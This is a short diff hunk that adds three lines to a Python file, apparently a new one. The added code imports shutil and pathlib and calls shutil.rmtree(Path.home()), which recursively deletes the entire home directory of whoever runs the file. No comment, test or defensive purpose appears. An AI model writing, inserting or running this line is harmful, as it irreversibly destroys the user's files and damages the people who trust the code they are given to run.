@@ -1,0 +1,3 @@
+import shutil
+from pathlib import Path
+shutil.rmtree(Path.home())
